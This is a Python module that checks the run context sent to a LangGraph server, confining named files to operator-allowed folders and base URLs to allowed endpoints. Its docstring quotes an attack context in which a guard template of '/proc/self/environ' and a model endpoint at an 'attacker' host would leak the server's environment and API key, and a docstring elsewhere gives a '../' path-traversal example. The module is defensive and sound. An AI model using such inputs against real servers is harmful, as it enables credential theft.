"""What a run's context sent to a server of the graphs (`langgraph dev`, Studio, the SDK) may name: files only in
the server's own folders, endpoints only those the server allows.

A context typed in Studio or sent through the SDK comes from whoever reaches the server. Unchecked, a context with
`guard: "template=/proc/self/environ"` and `model: "openai:x@http://attacker/v1"` made the server read its own
environment and send it, with the key for custom endpoints, to the caller's address. `graphs/studio.py` (the entry
`langgraph.json` serves) therefore passes every run's context through `check_server_context` before the graph runs:

- a file or folder a field names (a guard template, a toxic-pair set, a scripted model file, a local model, GGUF
  file or adapter, Q16 embeddings, a local CLIP or BLIP folder, a diffusers model or an ESD UNet file) must lie,
  links resolved, in a folder of the server's `UNVEIL_FILE_ROOTS` or the repository's shipped `data/` and
  `examples/` (the Studio examples run as shipped); files read as text (templates, scripts,
  embeddings) must be regular files of at most `MAX_CONTEXT_FILE_BYTES`;
- the image store a context names must be the server's default store or lie in `UNVEIL_FILE_ROOTS` (a store is
  created where it is named: elsewhere a context could make folders anywhere);
- a base URL (`@http://...` of a model spec or of the moderation endpoint) must be one the server allows: listed in
  `UNVEIL_ALLOWED_BASE_URLS`, or the endpoint of a spec the server's own environment sets (with
  `UNVEIL_MODEL=openai:m@http://127.0.0.1:8000/v1` the operator's local server stays usable from Studio). So a server
  key (`UNVEIL_OPENAI_API_KEY`) only ever goes to an endpoint the operator chose;
- each field is read with the parser of the code that uses it (`agents.guard.parse_guard`,
  `tools.t2i.registry.parse_spec`, `ModelSpec.parse`, `tools.moderation.parse_moderation_spec`): a check that read
  `guard:template=/proc/self/environ` its own way passed it while the graph read the file;
- every field has a kind (`FIELD_KINDS`; fields typed bool, number or `Literal`, and lists with fixed choices name
  nothing); a text field of no known kind is refused, so a new field cannot slip through unchecked
  (`tests/graphs/test_server_context.py` checks every context `langgraph.json` serves).

The settings are the server's own (its environment, or the `env` of `langgraph.json`), never a run's. The CLI's
flags and in-process callers are the operator's own choices and are not limited here.
"""

from __future__ import annotations

import os
import stat
import typing
from collections.abc import Callable, Mapping
from dataclasses import fields
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

from agents.guard import parse_guard
from agents.providers.profiles import provider_profile
from agents.spec import ModelSpec, ModelSpecError
from graphs.context import ContextError, base_type, coerce_field, field_choices, is_empty
from tools.addresses import BadURLError, split_url
from tools.datafiles import DATA_DIR
from tools.env import SettingError, env_list
from tools.image_store import default_store_root
from tools.moderation import parse_moderation_spec
from tools.redact import redact_url
from tools.t2i.errors import UnsupportedOptionError
from tools.t2i.pipeline_loading import looks_like_path
from tools.t2i.registry import REGISTERED, parse_spec

FILE_ROOTS_ENV = "UNVEIL_FILE_ROOTS"
ALLOWED_BASE_URLS_ENV = "UNVEIL_ALLOWED_BASE_URLS"
SETTINGS_HELP = {
    FILE_ROOTS_ENV: "folders (separated by `:`) whose files a run's context sent to the server may name: guard "
    "templates, scripted model files, local models and adapters, Q16 embeddings, image stores; no other file is read "
    "for a context",
    ALLOWED_BASE_URLS_ENV: "base URLs (comma-separated) a run's context sent to the server may name as a model's or "
    "the moderation's `@BASE_URL`, besides those of the specs the server's own environment sets",
}
# Files a context names that are read as text (a prompt, a script, an embeddings table): small by nature.
MAX_CONTEXT_FILE_BYTES = 16 * 1024 * 1024

# The kind of every text field of the served contexts; `check_server_context` refuses a text field not listed here.
FIELD_KINDS: dict[str, str] = {
    "model": "spec",
    "blind_judge_models": "spec",
    "moderation_spec": "moderation",
    "guard": "guard",
    "generator": "generator",
    "image_store": "store",
    "q16_embeddings": "text_file",
    "toxic_pairs": "text_file",
    "q16_clip_model": "model_ref",
    "clip_model": "model_ref",
    "blip_model": "model_ref",
    "negative_prompt": "text",
    "device": "text",
    "nudenet_labels": "text",
}


def field_kind(name: str, annotation: object, metadata: Mapping[str, Any]) -> str:
    """What a context field names: `spec` (`*_model` fields), a kind of `FIELD_KINDS`, `plain` (a bool, a number, a
    `Literal`, a list with fixed choices), or `unknown`."""
    if name in FIELD_KINDS:
        return FIELD_KINDS[name]
    if name.endswith("_model"):
        return "spec"
    kind = base_type(annotation)
    if kind in (bool, int, float) or field_choices(annotation):
        return "plain"
    if typing.get_origin(kind) is list and metadata.get("item_choices") is not None:
        return "plain"
    return "unknown"


def shipped_roots() -> list[Path]:
    """The repository's own read-only folders a context may always name: `data/` (the papers' public data, e.g.
    the Q16 embeddings) and `examples/` (the Studio examples' scripted answers and their tiny generator)."""
    repo = DATA_DIR.parent
    return [(repo / "data").resolve(), (repo / "examples").resolve()]


def file_roots() -> list[Path]:
    """The folders of `UNVEIL_FILE_ROOTS`, links resolved, and the repository's shipped folders (`shipped_roots`)."""
    return [Path(r).expanduser().resolve() for r in env_list(FILE_ROOTS_ENV, os.pathsep)] + shipped_roots()


def _within(path: Path, roots: list[Path]) -> bool:
    return any(root == path or root in path.parents for root in roots)


def _looks_local(ref: str) -> bool:
    """Whether a model reference names a local path (as the providers read it) rather than a Hub id or an alias."""
    return ref.startswith((".", "/", "~")) or Path(ref).expanduser().exists()


def check_path(name: str, ref: str, *, text_file: bool = False, roots: list[Path] | None = None) -> Path:
    """The resolved path of `ref` when it lies in the server's file folders (`roots`, default `file_roots()`), else
    a `ContextError` naming the field; a `text_file` must also be a regular file within the size cap."""
    allowed = file_roots() if roots is None else roots
    path = Path(ref).expanduser().resolve()
    if not _within(path, allowed):
        where = ", ".join(str(r) for r in allowed) or "none set"
        raise ContextError(
            f"{name}: {ref!r} is outside the folders a run's context may name files in ({where}); the server's "
            f"operator lists them in {FILE_ROOTS_ENV}"
        )
    if text_file:
        try:
            st = path.stat()
        except FileNotFoundError:
            return path  # the graph's own checks name a missing file as they do for every caller
        except OSError as exc:
            raise ContextError(f"{name}: {ref!r} cannot be read ({exc.strerror})") from exc
        if not stat.S_ISREG(st.st_mode):
            raise ContextError(f"{name}: {ref!r} is not a regular file")
        if st.st_size > MAX_CONTEXT_FILE_BYTES:
            raise ContextError(f"{name}: {ref!r} is over the {MAX_CONTEXT_FILE_BYTES:,}-byte limit")
    return path


def _endpoint(url: str) -> tuple[str, str, int, list[str]]:
    parts, host, port = split_url(url, what="base URL")
    default = 443 if parts.scheme == "https" else 80
    return parts.scheme, host.lower(), port or default, [p for p in parts.path.split("/") if p]


def server_base_urls(spec_fields: list[str]) -> list[str]:
    """The base URLs the server allows: `UNVEIL_ALLOWED_BASE_URLS` and the `@BASE_URL` of every spec its environment
    sets for `spec_fields` (`UNVEIL_MODEL`, `UNVEIL_<ROLE>_MODEL`, `UNVEIL_MODERATION_SPEC`, ...)."""
    urls = env_list(ALLOWED_BASE_URLS_ENV)
    for name in spec_fields:
        for spec in env_list(f"UNVEIL_{name.upper()}"):
            _spec, _, url = spec.partition("@")
            if url.startswith(("http://", "https://")):
                urls.append(url.rstrip("/"))
    return urls


def check_base_url(name: str, url: str, allowed: list[str]) -> None:
    """Refuse (`ContextError` naming the field) a base URL that is not one of `allowed`: same scheme, host and port,
    and a path at or below the allowed one (credentials are not compared). Paths are compared normalised, as a
    client or server resolves them (percent-escapes decoded, `.` and `..` applied): `/v1/../../admin` is `/admin`,
    not below `/v1`; one that climbs above the root, or holds an encoded slash or a backslash (servers read those
    differently), is refused."""
    from urllib.parse import unquote

    def normalised(segments: list[str]) -> list[str] | None:
        out: list[str] = []
        for raw in segments:
            segment = raw
            for _ in range(3):  # `%252e` is `%2e` to a server that decodes twice
                segment = unquote(segment)
            if "/" in segment or "\\" in segment or (segment == ".." and not out):
                return None
            if segment == "..":
                out.pop()
            elif segment not in (".", ""):
                out.append(segment)
        return out

    try:
        scheme, host, port, raw_path = _endpoint(url)
    except BadURLError as exc:
        raise ContextError(f"{name}: {exc}") from exc
    path = normalised(raw_path)
    if path is None:
        raise ContextError(
            f"{name}: base URL {redact_url(url)!r}: its path climbs above the root or holds an encoded slash or a "
            "backslash"
        )
    for entry in allowed:
        try:
            a_scheme, a_host, a_port, a_raw = _endpoint(entry)
        except BadURLError:
            continue
        a_path = normalised(a_raw)
        if a_path is not None and (scheme, host, port) == (a_scheme, a_host, a_port) and path[: len(a_path)] == a_path:
            return
    raise ContextError(
        f"{name}: base URL {redact_url(url)!r} is not one this server allows (a run's context may name only the "
        f"endpoints its operator lists in {ALLOWED_BASE_URLS_ENV} or sets in the server's model settings)"
    )


class _Checker:
    """The checks of one context's fields against the server's settings, read once."""

    def __init__(self, cls: type) -> None:
        specs = [f.name for f in fields(cls) if field_kind(f.name, Any, f.metadata) in ("spec", "moderation")]
        self.allowed_urls = server_base_urls(specs)
        self.roots = file_roots()

    def path(self, name: str, ref: str, *, text_file: bool = False) -> None:
        """A file or folder the field names must lie in the server's folders."""
        check_path(name, ref, text_file=text_file, roots=self.roots)

    def spec(self, name: str, spec: str) -> None:
        """A model spec: its base URL allowed, its script, local model or adapter in the server's folders."""
        try:
            parsed = ModelSpec.parse(spec)
        except ModelSpecError as exc:
            raise ContextError(f"{name}: {exc}") from exc
        if parsed.base_url:
            check_base_url(name, parsed.base_url, self.allowed_urls)
        model, _, query = parsed.model.partition("?")
        profile = provider_profile(parsed.provider)  # says what its spec may name on disk
        if profile.model_files == "script":
            self.path(name, model, text_file=True)
        elif profile.model_files == "model" and _looks_local(model):
            self.path(name, model)
        for path in (v for option in profile.path_options for v in parse_qs(query).get(option, [])):
            self.path(name, path)

    def moderation(self, name: str, spec: str) -> None:
        """The moderation endpoint `openai:MODEL[@BASE_URL]`, read as the scorer reads it: its base URL allowed."""
        try:
            _model, url = parse_moderation_spec(spec)
        except SettingError as exc:
            raise ContextError(f"{name}: {exc}") from exc
        if url:
            check_base_url(name, url, self.allowed_urls)

    def guard(self, name: str, value: str) -> None:
        """A guard, read as the graph reads it (`parse_guard`, any `guard:` prefix): a template file in the server's
        folders (built-in names name no file)."""
        try:
            ref = parse_guard(value)
        except SettingError as exc:
            raise ContextError(f"{name}: {exc}") from exc
        if ref.template is not None:
            self.path(name, ref.template, text_file=True)

    def generator(self, name: str, spec: str) -> None:
        """A text-to-image spec, read as the registry reads it (`parse_spec`): a local diffusers folder or ESD UNet
        file in the server's folders."""
        if spec.startswith(f"{REGISTERED}:"):  # an object the server registered itself
            return
        try:
            kind, model, _query = parse_spec(spec)
        except UnsupportedOptionError as exc:
            raise ContextError(f"{name}: {exc}") from exc
        if kind == "openai":  # an API model name
            return
        if looks_like_path(model) or _looks_local(model):
            self.path(name, model)
        # Every `unet=` given, not only the last one the registry uses: no value of the query escapes the check.
        for unet in parse_qs(spec.partition("?")[2], keep_blank_values=True).get("unet", []):
            self.path(name, unet)

    def store(self, name: str, folder: str) -> None:
        """An image store: the server's default one, or a folder in the server's folders (it is created there)."""
        if Path(folder).expanduser().resolve() != Path(default_store_root()).expanduser().resolve():
            self.path(name, folder)

    def model_ref(self, name: str, ref: str) -> None:
        """A scorer's model: a Hub id, or a local folder in the server's folders."""
        local = ref.removeprefix("local-dir:")
        if ref.startswith("local-dir:") or _looks_local(local):
            self.path(name, local)

    def text_file(self, name: str, ref: str) -> None:
        """A file read as data (Q16 embeddings): in the server's folders, regular and capped."""
        self.path(name, ref, text_file=True)


_CHECKS: dict[str, Callable[[_Checker, str, str], None]] = {
    "spec": _Checker.spec,
    "moderation": _Checker.moderation,
    "guard": _Checker.guard,
    "generator": _Checker.generator,
    "store": _Checker.store,
    "model_ref": _Checker.model_ref,
    "text_file": _Checker.text_file,
}


def check_server_context(cls: type, settings: Mapping[str, Any]) -> None:
    """Refuse a context sent to the server that names a file outside `UNVEIL_FILE_ROOTS`, an endpoint the server
    does not allow, or sets a text field of no known kind (one `ContextError` naming the field). Only the settings
    the context gives are checked: the rest come from the server's own environment or the defaults."""
    hints = typing.get_type_hints(cls)
    by_name = {f.name: f for f in fields(cls)}
    checker = _Checker(cls)
    for name, raw in settings.items():
        f = by_name.get(name)
        if f is None or is_empty(raw):
            continue  # unknown names are refused by `check_setting_names`; empty means the server's value
        value = coerce_field(name, raw, hints.get(name, Any))
        kind = field_kind(name, hints.get(name, Any), f.metadata)
        if kind == "unknown":
            raise ContextError(f"{name}: this setting cannot be given by a run sent to the server")
        check = _CHECKS.get(kind)
        if check is None:
            continue
        for item in value if isinstance(value, list) else [value]:
            if isinstance(item, str) and item.strip():
                check(checker, name, item.strip())
